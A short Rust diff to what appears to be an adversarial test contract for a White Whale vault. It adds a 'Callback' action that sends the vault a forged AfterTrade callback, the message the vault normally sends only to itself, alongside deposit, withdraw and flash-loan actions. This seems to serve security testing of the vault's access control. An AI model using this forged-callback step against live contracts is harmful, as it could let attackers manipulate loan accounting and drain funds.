@@ -29,6 +29,8 @@ pub enum Atom {
     Deposit { x: Uint128 },
     Withdraw { x: Uint128 },
     Collect {},
+    /// send the vault a forged `Callback(AfterTrade { old_balance, loan_amount })` (the vault's message to itself)
+    Callback { old: Uint128, x: Uint128 },
     /// take a direct flash loan of `x` from the vault with call-back `Run { sub, target = vault }`
     Loan { x: Uint128, sub: Vec<Atom> },
 }
@@ -115,6 +117,16 @@ fn execute(deps: DepsMut, _env: Env, _info: MessageInfo, msg: AdvExecute) -> Std
                         }
                         .into(),
                     ),
+                    Atom::Callback { old, x } => msgs.push(
+                        WasmMsg::Execute {
+                            contract_addr: cfg.vault.clone(),
+                            msg: to_json_binary(&white_whale_std::vault_network::vault::ExecuteMsg::Callback(
+                                white_whale_std::vault_network::vault::CallbackMsg::AfterTrade { old_balance: old, loan_amount: x },
+                            ))?,
+                            funds: vec![],
+                        }
+                        .into(),
+                    ),
                     Atom::Collect {} => msgs.push(
                         WasmMsg::Execute {
                             contract_addr: cfg.vault.clone(),
@@ -159,6 +171,7 @@ pub fn atom_json(a: &Atom) -> Value {
         Atom::Deposit { x } => json!({"a": "deposit", "x": x.to_string()}),
         Atom::Withdraw { x } => json!({"a": "withdraw", "x": x.to_string()}),
         Atom::Collect {} => json!({"a": "collect"}),
+        Atom::Callback { old, x } => json!({"a": "fcb", "old": old.to_string(), "x": x.to_string()}),
         Atom::Loan { x, sub } => json!({"a": "loan", "x": x.to_string(), "sub": script_json(sub)}),
     }
 }
